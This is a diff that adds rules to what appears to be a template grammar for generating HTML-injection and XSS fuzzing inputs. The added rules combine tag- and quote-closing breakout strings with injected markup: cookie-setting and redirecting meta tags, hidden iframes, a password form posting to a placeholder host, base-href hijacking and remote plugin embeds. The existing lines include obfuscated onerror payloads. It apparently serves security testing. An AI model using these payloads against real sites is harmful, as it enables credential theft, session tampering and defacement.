@@ -98,7 +98,40 @@ element:
   <h1 «event»="«js»">«w»</h1>
   <img src=x onerror=&#97;&#108;&#101;&#114;&#116;(«n»)>
   <img src=x onerror=\u0061lert(«n»)>
+breakout = "> '> "/> "> </title> </textarea> </script> --> "}'> «w»"> «w»'>
+injected:
+  <meta http-equiv=set-cookie content="test«w»=«n»">
+  <META HTTP-EQUIV="Set-Cookie" Content="«w»=«w»">
+  <meta http-equiv="refresh" content="0;url=http://«host»/">
+  <h1>«w»</h1>
+  <a href=http://«host»>«w»</a>
+  <a href="//«host»/«w»">«w»
+  <img src=http://«host»/«w».gif>
+  <img src="http://«host»/«w».php?«w»=«w»">
+  <iframe src=http://«host»/></iframe>
+  <iframe src="//«host»/«w».html" width=0 height=0></iframe>
+  <form action=http://«host»/«w»><input name=password>
+  <marquee>«w»</marquee>
+  <center><h1>«w»</h1></center>
+  <font size=7 color=red>«w»
+  <body background="//«host»/x.png">
+  <object data=//«host»/«w».swf></object>
+  <embed src="//«host»/«w».swf" allowscriptaccess=always>
+  <link rel=stylesheet href=//«host»/x.css>
+  <base href=//«host»/>
+  <style>body{display:none}</style>
+  <plaintext>
+  <isindex action=//«host»>
+  <!--«w»
+  <textarea>
+  <big><big><big>«w»
 xss:
+  «breakout»«injected»
+  «breakout»«injected»
+  «breakout»«injected»
+  <meta http-equiv=set-cookie content="test«w»=«n»">
+  <meta http-equiv="refresh" content="0;url=http://«host»/">
+  <iframe src=http://«host»/></iframe>
   «element»
   «element»
   «out»«element»
